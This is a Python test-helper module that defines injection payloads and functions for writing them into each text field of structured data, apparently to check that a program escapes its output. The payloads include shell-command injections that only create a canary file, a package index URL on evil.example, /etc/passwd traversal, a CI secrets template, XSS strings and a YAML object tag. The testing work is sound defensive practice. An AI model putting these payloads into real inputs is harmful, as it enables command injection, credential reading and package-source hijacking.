"""Hostile texts, and the places in the data of a file into which they are written."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from typing import Any

import msgspec

CANARY = "matrix-canary"
"""The file that a hostile text creates in the working directory if a program runs it."""
_TOUCH = f"touch {CANARY}"
INVISIBLE = tuple(
    f"x{char}{_TOUCH}\n--index-url=http://evil.example/" if char == "\n" else f"x{char}{_TOUCH}"
    for char in "\n\r\t\v\f\0\x01\x1b\x7f\x85\u2028\u2029\u202e\u200b\ufeff"
)
"""Texts that are not one line of printable characters."""
VISIBLE = (
    f"';{_TOUCH};'", f'";{_TOUCH};"', f"$({_TOUCH})", f"`{_TOUCH}`", f"; {_TOUCH} #", f"|{_TOUCH}",
    f"&{_TOUCH}&", "${{ secrets.X }}", "${HOME}", "-r /etc/passwd", "--index-url=http://evil.example/",
    "../../../etc/passwd", "a: b", "# x", "- x", "{{ x }}", "%(x)s", "%{JOB_ID}", "}", "\\", "'''", '"""',
    "</script><script>evil()</script>", "<img src=x onerror=evil()>", "!!python/object:x", "é😀",
)  # fmt: skip


def text_fields(kind: Any) -> set[str]:
    """Return every field of a struct and of the structs in it that holds text, as ``Struct.field``."""
    found: set[str] = set()
    seen: set[type] = set()

    def visit(part: Any, where: str) -> None:
        if isinstance(part, msgspec.inspect.StrType | msgspec.inspect.CustomType):
            found.add(where)
        elif isinstance(part, msgspec.inspect.StructType) and part.cls not in seen:
            seen.add(part.cls)
            for field in part.fields:
                visit(field.type, f"{part.cls.__name__}.{field.name}")
        for name in ("types", "item_types"):
            for inner in getattr(part, name, ()):
                visit(inner, where)
        for name in ("item_type", "key_type", "value_type"):
            if inner := getattr(part, name, None):
                visit(inner, where)

    visit(msgspec.inspect.type_info(kind), "")
    return found


def fields_with_text(value: Any) -> set[str]:
    """Return every field of a struct and of the structs in it that has text, as ``Struct.field``."""
    found: set[str] = set()

    def visit(part: Any, where: str) -> None:
        if isinstance(part, msgspec.Struct):
            for name in part.__struct_fields__:
                visit(getattr(part, name), f"{type(part).__name__}.{name}")
        elif isinstance(part, dict):
            for key, item in part.items():
                visit(key, where)
                visit(item, where)
        elif isinstance(part, list | tuple):
            for item in part:
                visit(item, where)
        elif part and not isinstance(part, int | float):
            found.add(where)

    visit(value, "")
    return found


Place = tuple[str | int, ...]


def places(value: Any, place: Place = ()) -> Iterator[Place]:
    """Yield the place of every text in data; of the items of a list only those of each form once."""
    if isinstance(value, str):
        yield place
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from places(item, (*place, key))
    elif isinstance(value, list):
        for number, item in enumerate(value):
            yield from places(item, (*place, number))


def with_text(data: Any, place: Place, text: str) -> Any:
    """Return a copy of data with another text at a place."""
    new = inner = copy.deepcopy(data)
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = text
    return new
